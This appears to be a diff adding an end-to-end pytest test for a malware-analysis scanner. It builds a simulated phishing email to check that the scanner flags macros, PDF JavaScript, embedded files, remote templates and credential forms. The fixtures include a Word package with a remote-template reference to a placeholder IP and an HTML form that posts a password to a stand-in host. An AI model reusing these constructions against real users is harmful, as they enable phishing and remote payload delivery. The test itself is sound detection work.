@@ -1,0 +1,265 @@
+"""End to end (issue 13, "Done when"): one ``stoq scan`` with the default profile of a phishing
+email whose attachments are a zip holding oletools' VBA sample and pypdf's JavaScript and
+file-attachment samples, and an OOXML document with a remote template.
+
+The response must report the macros with their AutoExec triggers, the PDF's JavaScript and its
+attached file, the remote template URL, the IOCs in the message bodies and a ``summary`` naming
+each finding and its payload; every worker that ran on a payload beyond the always-dispatched
+three must be explained by the payload's ``dispatch_meta`` (yara) or ``deep_dispatch_meta``
+(results). Samples are real files from pinned sdists; the zip, the OOXML package and the email
+are made here with zipfile and the standard library's email package.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import subprocess
+import sys
+import zipfile
+from email.message import EmailMessage
+from pathlib import Path
+from typing import Any, Dict, List
+
+import pytest
+
+from stoq.loader import discover
+from stoq.testing import pinned_sample
+
+PLUGINS = (
+    "hash", "entropy", "mimetype", "yara", "results", "decompress",
+    "email", "olevba", "ooxml", "pdf", "iocs", "html", "summary",
+)  # fmt: skip
+ALWAYS = {"hash", "entropy", "mimetype"}
+PPT_VBA = pinned_sample(
+    "oletools-0.60.2.zip",
+    "oletools-0.60.2/tests/test-data/olevba/sample_with_vba.ppt",
+    "618644f5fe56d83b13cbc0f95f944a88617ab096088fbfcc52d395ef84424ea4",
+).read_bytes()
+PDF_JS = pinned_sample(
+    "pypdf-7.1.1.tar.gz",
+    "pypdf-7.1.1/resources/issue-297.pdf",
+    "87c0fa472c602de676d93d044b3619afd9e450d039101c70ca3550356d1537e1",
+).read_bytes()
+PDF_ATTACHMENT = pinned_sample(
+    "pypdf-7.1.1.tar.gz",
+    "pypdf-7.1.1/resources/attachment.pdf",
+    "c621f5136783216a2011c128a3d23ce1e4390c2a2f246ceb67f8901c1c1b0f96",
+).read_bytes()
+TEMPLATE_URL = "http://198.51.100.77/templates/invoice.dotm"
+RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+TEXT_BODY = "Your invoice is overdue. Pay at hxxps://pay-portal[.]example[.]com/invoice today.\n"
+HTML_BODY = (
+    '<html><body><p>Sign in at <a href="https://login.example.net/verify">the portal</a>.</p>'
+    '<form action="https://collect.example.org/post" method="post">'
+    '<input name="user"><input name="password" type="password"></form></body></html>\n'
+)
+
+
+@pytest.fixture(scope="module", autouse=True)
+def installed() -> None:
+    missing = [name for name in PLUGINS if name not in discover()]
+    if missing:
+        pytest.fail(f"plugins {missing} are not installed (nox -s cross installs them)")
+
+
+def remote_template_docx() -> bytes:
+    """A Word document whose settings relationships load a template from a URL on open."""
+    parts = {
+        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
+        '.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
+        "</Types>",
+        "_rels/.rels": f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
+        f'Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>',
+        "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/'
+        'wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>',
+        "word/_rels/settings.xml.rels": f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
+        f'Type="{OFFICE}/attachedTemplate" Target="{TEMPLATE_URL}" TargetMode="External"/>'
+        "</Relationships>",
+    }
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zipped:
+        for name, text in parts.items():
+            zipped.writestr(name, text)
+    return buffer.getvalue()
+
+
+def samples_zip() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zipped:
+        zipped.writestr("sample_with_vba.ppt", PPT_VBA)
+        zipped.writestr("issue-297.pdf", PDF_JS)
+        zipped.writestr("attachment.pdf", PDF_ATTACHMENT)
+    return buffer.getvalue()
+
+
+def phishing_email() -> bytes:
+    message = EmailMessage()
+    message["Received"] = (
+        "from mail.example.com (mail.example.com [203.0.113.5]) by mx.example.org with ESMTPS;"
+        " Wed, 2 Dec 2026 06:00:00 +0000"
+    )
+    message["Authentication-Results"] = "mx.example.org; spf=fail; dkim=none; dmarc=fail"
+    message["From"] = "Accounts <accounts@example.com>"
+    message["To"] = "victim@example.org"
+    message["Subject"] = "Overdue invoice"
+    message.set_content(TEXT_BODY)
+    message.add_alternative(HTML_BODY, subtype="html")
+    message.add_attachment(
+        samples_zip(), maintype="application", subtype="zip", filename="samples.zip"
+    )
+    message.add_attachment(
+        remote_template_docx(),
+        maintype="application",
+        subtype="vnd.openxmlformats-officedocument.wordprocessingml.document",
+        filename="invoice.docx",
+    )
+    return message.as_bytes()
+
+
+@pytest.fixture(scope="module")
+def response(tmp_path_factory: pytest.TempPathFactory) -> Dict[str, Any]:
+    """One ``stoq scan`` of the email with no configuration: the default profile."""
+    folder = tmp_path_factory.mktemp("wave1")
+    sample = folder / "overdue.eml"
+    sample.write_bytes(phishing_email())
+    script = Path(sys.executable).with_name("stoq")
+    done = subprocess.run(
+        [str(script), "scan", "--jsonl", str(sample)],
+        env={**os.environ, "STOQ_HOME": str(folder / "no-stoq-home")},
+        capture_output=True,
+        text=True,
+        timeout=600,
+    )
+    assert done.returncode == 0, done.stderr
+    [line] = done.stdout.splitlines()
+    return json.loads(line)
+
+
+def named(response: Dict[str, Any], filename: str) -> Dict[str, Any]:
+    [result] = [
+        r
+        for r in response["results"]
+        if str(r["payload_meta"]["extra_data"].get("filename", "")).endswith(filename)
+    ]
+    return result
+
+
+def found(result: Dict[str, Any], worker: str) -> Any:
+    for round_results in result["workers"]:
+        if worker in round_results:
+            return round_results[worker]
+    ran = [w for r in result["plugins_run"]["workers"] for w in r]
+    raise AssertionError(f"{worker} did not run on {result['payload_meta']}: ran {ran}")
+
+
+def reasons(result: Dict[str, Any], worker: str) -> List[str]:
+    """The yara dispatch rules and results rules that asked for ``worker`` on this payload."""
+    why = [
+        f"yara:{rule}"
+        for rule, meta in result["dispatch_meta"].get("yara", {}).items()
+        if isinstance(meta, dict)
+        and worker in [n.strip() for n in str(meta.get("plugin", "")).split(",")]
+    ]
+    why += [
+        f"results:{rule}"
+        for rule, meta in result["deep_dispatch_meta"].get("results", {}).items()
+        if isinstance(meta, dict) and worker in meta.get("dispatch", [])
+    ]
+    return why
+
+
+def findings(response: Dict[str, Any], finding: str) -> List[Dict[str, Any]]:
+    return [f for f in response["decorators"]["summary"]["findings"] if f["finding"] == finding]
+
+
+def test_no_errors_and_every_worker_says_why_it_ran(response: Dict[str, Any]) -> None:
+    assert response["errors"] == []
+    for result in response["results"]:
+        for worker in {w for r in result["plugins_run"]["workers"] for w in r} - ALWAYS:
+            assert reasons(result, worker), (
+                f"{worker} ran on {result['payload_meta']['extra_data']} with no rule naming it"
+            )
+
+
+def test_the_email_is_parsed_and_its_parts_extracted(response: Dict[str, Any]) -> None:
+    root = response["results"][0]
+    assert "yara:email_message" in reasons(root, "email")
+    mail = found(root, "email")
+    assert mail["subject"] == "Overdue invoice"
+    assert mail["authentication_results"][0]["results"]["dmarc"] == "fail"
+    assert [a["filename"] for a in mail["attachments"]] == ["samples.zip", "invoice.docx"]
+    zipped = named(response, "samples.zip")
+    assert zipped["extracted_by"] == "email"
+    members = {m["archive_path"] for m in found(zipped, "decompress")["members"]}
+    assert members == {"sample_with_vba.ppt", "issue-297.pdf", "attachment.pdf"}
+
+
+def test_macros_with_their_autoexec_trigger(response: Dict[str, Any]) -> None:
+    ppt = named(response, "sample_with_vba.ppt")
+    assert "yara:ole_compound_file" in reasons(ppt, "olevba")
+    macros = found(ppt, "olevba")
+    assert [m["name"] for m in macros["modules"]] == ["Module1.bas"]
+    assert [a["keyword"] for a in macros["autoexec"]] == ["Action_Click"]
+
+
+def test_pdf_javascript_and_attachment(response: Dict[str, Any]) -> None:
+    script_pdf = named(response, "issue-297.pdf")
+    assert "yara:pdf_document" in reasons(script_pdf, "pdf")
+    [script] = found(script_pdf, "pdf")["javascript"]
+    assert (script["trigger"], script["on_open"]) == ("open", True)
+    assert script["source"].startswith("app.alert(")
+    carrier = named(response, "attachment.pdf")
+    [embedded] = found(carrier, "pdf")["embedded_files"]
+    assert (embedded["filename"], embedded["source"]) == ("jpeg.pdf", "FileAttachment annotation")
+    inner = named(response, "jpeg.pdf")
+    assert (inner["extracted_by"], inner["extracted_from"]) == ("pdf", carrier["payload_id"])
+    assert "javascript" in found(inner, "pdf")
+
+
+def test_remote_template_url(response: Dict[str, Any]) -> None:
+    docx = named(response, "invoice.docx")
+    assert "yara:ooxml_document" in reasons(docx, "ooxml")
+    assert found(docx, "ooxml")["remote_templates"] == [TEMPLATE_URL]
+
+
+def test_iocs_from_the_bodies(response: Dict[str, Any]) -> None:
+    text = named(response, "body-1.txt")
+    assert reasons(text, "iocs") == ["results:text-mimetype"]
+    text_iocs = found(text, "iocs")
+    assert text_iocs["urls"] == ["https://pay-portal.example.com/invoice"]
+    assert text_iocs["defanged"] == [
+        "https://pay-portal.example.com/invoice",
+        "pay-portal.example.com",
+    ]
+    page = named(response, "body-2.html")
+    assert reasons(page, "html") == ["results:html-mimetype"]
+    assert found(page, "html")["forms"][0]["password"] is True
+    assert "https://login.example.net/verify" in found(page, "iocs")["urls"]
+
+
+def test_summary_names_each_finding_and_its_payload(response: Dict[str, Any]) -> None:
+    summary = response["decorators"]["summary"]
+    assert summary["severity"] == "high"
+    by_id = {r["payload_id"]: r for r in response["results"]}
+    expected = {
+        "autoexec_macro": "sample_with_vba.ppt",
+        "pdf_javascript_on_open": "issue-297.pdf",
+        "pdf_embedded_file": "attachment.pdf",
+        "remote_template": "invoice.docx",
+        "credential_form": "body-2.html",
+        "sender_authentication": "overdue.eml",
+    }
+    for finding, filename in expected.items():
+        [entry] = findings(response, finding)
+        assert entry["payload_id"] == named(response, filename)["payload_id"], finding
+        assert entry["payload_id"] in by_id
+        assert entry["path"].endswith(filename)
+    assert TEMPLATE_URL in findings(response, "remote_template")[0]["reason"]
+    assert "Action_Click" in findings(response, "autoexec_macro")[0]["reason"]
+    assert findings(response, "autoexec_macro")[0]["path"] == (
+        f"{response['results'][0]['payload_meta']['extra_data']['filename']}"
+        " > samples.zip > sample_with_vba.ppt"
+    )
